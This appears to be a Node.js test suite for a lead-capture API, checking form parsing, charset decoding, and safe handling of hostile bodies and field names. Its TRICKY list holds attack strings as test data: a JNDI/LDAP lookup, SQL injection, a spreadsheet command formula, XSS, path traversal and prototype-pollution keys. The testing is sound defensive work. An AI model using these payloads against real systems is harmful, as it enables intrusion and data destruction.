// Whatever a form can throw at the edge: read, or refused with a name. Never a 5xx, never a hang.

import assert from "node:assert/strict";
import { readFile, readdir } from "node:fs/promises";
import { after, before, test } from "node:test";
import { aLead, eventually, startSession } from "./support/session.mjs";

const HOSTILE = new URL("../hostile/", import.meta.url);
const TYPES = {
  json: "application/json",
  urlencoded: "application/x-www-form-urlencoded",
  multipart: "multipart/form-data; boundary=boundary",
};

let session;
before(async () => {
  session = await startSession();
});
after(() => session?.stop());

const send = (type, body) =>
  fetch(`${session.url}/v1/leads/demo`, { method: "POST", headers: { "content-type": type }, body, signal: AbortSignal.timeout(10_000) });
const recordOf = (email) =>
  eventually("the lead is in the inbox", async () => (await session.records(`email = '${email}'`))[0]);

test("multipart forms are read, and their files refused", async () => {
  const { email } = aLead();
  const form = new FormData();
  form.set("email", email);
  form.set("name", "Zoë \"Z\" Ångström");
  form.set("consent.privacy", "on");
  form.set("attachment", new Blob([]), "");
  const taken = await fetch(`${session.url}/v1/leads/demo`, { method: "POST", body: form });
  assert.equal(taken.status, 202, await taken.clone().text());
  assert.equal((await recordOf(email)).name, 'Zoë "Z" Ångström');
  form.set("attachment", new Blob(["%PDF"]), "offer.pdf");
  const refused = await fetch(`${session.url}/v1/leads/demo`, { method: "POST", body: form });
  assert.equal(refused.status, 400);
  assert.match((await refused.json()).detail, /file/i);
});

test("a declared charset is decoded, with or without percent signs, and a byte order mark is none of the text", async () => {
  const latin = aLead().email;
  const answer = await send(
    "application/x-www-form-urlencoded; charset=ISO-8859-1",
    Buffer.from(`email=${encodeURIComponent(latin)}&name=Zo%EB+M\u00fcller&consent.privacy=on`, "latin1"),
  );
  assert.equal(answer.status, 202, await answer.clone().text());
  assert.equal((await recordOf(latin)).name, "Zoë Müller");
  const japanese = aLead().email;
  const shift = await send(
    "application/x-www-form-urlencoded; charset=Shift_JIS",
    `email=${encodeURIComponent(japanese)}&name=%8ER%93c&consent.privacy=on`,
  );
  assert.equal(shift.status, 202, await shift.clone().text());
  assert.equal((await recordOf(japanese)).name, "山田");
  const marked = aLead().email;
  const bom = await send("application/json", `\ufeff${JSON.stringify(aLead({ email: marked }))}`);
  assert.equal(bom.status, 202);
});

test("no hostile body gives a 5xx or a hang", async () => {
  let sent = 0;
  for (const [kind, type] of Object.entries(TYPES)) {
    const folder = new URL(`${kind}/`, HOSTILE);
    for (const file of await readdir(folder)) {
      const body = await readFile(new URL(file, folder));
      const answer = await send(type, body);
      assert.ok(answer.status < 500, `${kind}/${file}: ${answer.status}`);
      if (answer.status >= 400) {
        assert.equal(answer.headers.get("content-type"), "application/problem+json", `${kind}/${file}`);
        assert.match((await answer.json()).type, /^urn:beeline:problem:/, `${kind}/${file}`);
      }
      sent += 1;
    }
  }
  assert.ok(sent > 60, `${sent} bodies`);
  const law = await eventually("everything balances", async () => {
    const law = await session.conservation();
    return law.balanced && law.in_flight === 0 && law;
  });
  assert.ok(law.accepted > 0);
});

/** What breaks other systems, and what is kept of it where it is not all. */
const TRICKY = [
  ["${jndi:ldap://x/a}"], ["'; DROP TABLE inbox; --"], ["=cmd|'/C calc'!A1"], ["<script>alert(1)</script>"],
  ["../../etc/passwd"], ["%00%0d%0a"], ["𝔘𝔫𝔦𝔠𝔬𝔡𝔢"], ["{{7*7}}"], ["NaN"], ["null"], ["__proto__"],
  ["👩‍👩‍👧"], ["\"\\\""], ["two\nlines"],
  ["\u202egnp.exe", "gnp.exe"], ["pass\u200bword", "password"], ["a\u0000b\u001b[31m", "ab[31m"], ["Zu\u0308rich", "Zürich"],
];

test("strings that break other systems arrive as they were typed, without what hides or reorders them", async () => {
  for (const [typed, kept = typed] of TRICKY) {
    const answer = await session.post(aLead({
      name: typed, company: typed, product: typed, notes: typed, region: typed,
      utm: { source: typed }, room: typed, rooms: [typed, "one"],
    }));
    assert.equal(answer.status, 202, typed);
    const { lead } = await session.stored((await answer.json()).lead_id);
    assert.deepEqual(
      [lead.name, lead.company, lead.product, lead.notes, lead.region, lead.utm.source, lead.extra.room, lead.extra.rooms],
      [kept, kept, kept, kept, kept, kept, kept, [kept, "one"]],
    );
  }
});

test("a field may have a name that breaks other systems", async () => {
  const fields = '"__proto__":"a","constructor":"b","toString":"c"';
  const answer = await send("application/json", JSON.stringify(aLead()).replace("{", `{${fields},`));
  assert.equal(answer.status, 202, await answer.clone().text());
  const { lead } = await session.stored((await answer.json()).lead_id);
  assert.deepEqual(Object.entries(lead.extra).sort(), [["__proto__", "a"], ["constructor", "b"], ["toString", "c"]]);
});
